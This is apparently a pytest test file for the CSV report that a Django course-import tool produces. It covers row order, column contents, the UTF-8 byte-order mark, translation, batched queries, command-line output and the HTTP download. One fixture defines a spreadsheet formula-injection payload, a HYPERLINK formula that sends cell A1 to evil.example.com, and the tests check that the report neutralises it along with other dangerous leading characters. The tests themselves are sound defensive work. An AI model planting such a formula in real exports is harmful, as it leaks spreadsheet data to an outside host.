"""The report of an import: a table that a spreadsheet opens, and that does nothing there."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils.translation import override

from import_from_modulestore import api
from import_from_modulestore.data import Outcome
from import_from_modulestore.history import report as reports

from .builders import block, section, subsection, text, unit, write_course
from .command_line.calls import command, data_of, refused

PHOTO = '<p><img src="/static/photo.png"/></p>'
FORMULA = '=HYPERLINK("https://evil.example.com/?"&A1)'


@pytest.fixture
def imported(courses, run_import):
    blocks = (
        text("t1", title=FORMULA),
        text("t2", PHOTO, title="Фото, “quoted”"),
        block("itembank", "bank", "", text("t3")),
    )
    write_course(courses / "c1", section("s", subsection("b", unit("u", *blocks))))
    return run_import()[0]


@pytest.fixture
def table(user):
    """The report of an import as a spreadsheet reads it: ``table(run)``."""

    def table(run, **kwargs) -> list[dict[str, str]]:
        content = b"".join(api.get_report(user=user, import_id=run.id).chunks).decode("utf-8-sig")
        return list(csv.DictReader(StringIO(content, newline="")))

    return table


def test_has_a_row_for_each_record_in_the_order_of_the_source(imported, table, user):
    records = api.get_records(user=user, import_id=imported.id)
    rows = table(imported)
    assert [row["Source block"] for row in rows] == [record.usage_key for record in records]
    assert [row["Outcome"] for row in rows] == [record.outcome.label for record in records]


def test_says_what_came_of_a_block_and_what_is_missing(imported, table):
    photo = next(row for row in table(imported) if row["Source block"].endswith("t2"))
    assert photo["Name"] == "Фото, “quoted”"
    assert (photo["Kind"], photo["Type"], photo["State before"]) == ("Component", "html", "New")
    assert (photo["Missing files"], photo["What could not go"]) == ("photo.png", "Open: Files are missing")
    assert photo["Library item"] == "lb:Acme:Target:html:t2"
    assert (photo["Draft before"], photo["Draft after"], photo["Published after"]) == ("", "1", "1")
    bank = next(row for row in table(imported) if row["Outcome"] == Outcome.UNSUPPORTED.label)
    assert bank["Library item"] == ""
    assert bank["Left out with it"]
    assert bank["What could not go"] == "Open: A library cannot hold it"


def test_no_cell_is_a_formula(imported, table):
    cells = [cell for row in table(imported) for cell in row.values()]
    assert f"'{FORMULA}" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r", "\n=", " =", "＝", "＋", "－", "＠"])
def test_nor_is_what_is_taken_for_one_somewhere(begin):
    assert reports.cell(f"{begin}1") == f"'{begin}1"


def test_begins_with_the_mark_by_which_spreadsheets_know_utf_8(imported, user):
    assert b"".join(api.get_report(user=user, import_id=imported.id).chunks).startswith(b'\xef\xbb\xbf"Number"')


def test_is_in_the_language_of_who_asks_for_it_however_late_it_is_read(imported, user):
    api.undo_import(user=user, import_id=imported.id)
    with override("de"):
        _headings, *rows = _read_later(api.get_report(user=user, import_id=imported.id).rows)
    assert "Ja" in rows[0], "Yes, it is undone."


def _read_later(rows) -> list[tuple[str, ...]]:
    with override("en"):
        return list(rows)


def test_is_read_in_parts(courses, run_import, user, monkeypatch):
    monkeypatch.setattr(reports, "BATCH_SIZE", 10)
    write_course(courses / "c1", section("s", subsection("b", unit("u", *(text(f"t{num}") for num in range(27))))))
    run = run_import()[0]
    with CaptureQueriesContext(connection) as made:
        report = api.get_report(user=user, import_id=run.id)
        asked = len(made)
        rows = list(report.rows)
    assert len(rows) == 31
    assert len(made) - asked == 4


class TestOnTheCommandLine:
    def test_it_is_printed(self, imported):
        out = command("report", imported.id)
        assert next(csv.reader(StringIO(out, newline="")))[:2] == ["Number", "Name"]
        assert len(data_of("report", imported.id)) == 6

    def test_or_written_to_a_file_that_is_not_there_yet(self, imported, tmp_path):
        file = tmp_path / "tides.csv"
        assert "The report is in" in command("report", imported.id, str(file))
        assert file.read_bytes().startswith(b"\xef\xbb\xbf")
        assert "File exists" in refused("report", imported.id, str(file))[0]
        command("report", imported.id, str(file), "--force")


def test_is_downloaded_over_http(imported, client, user, table):
    client.force_login(user)
    response = client.get(f"/api/modulestore_imports/v1/imports/{imported.id}/report/")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="import-{imported.id[:8]}.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.DictReader(StringIO(response.getvalue().decode("utf-8-sig"), newline="")))
    assert rows == table(imported)
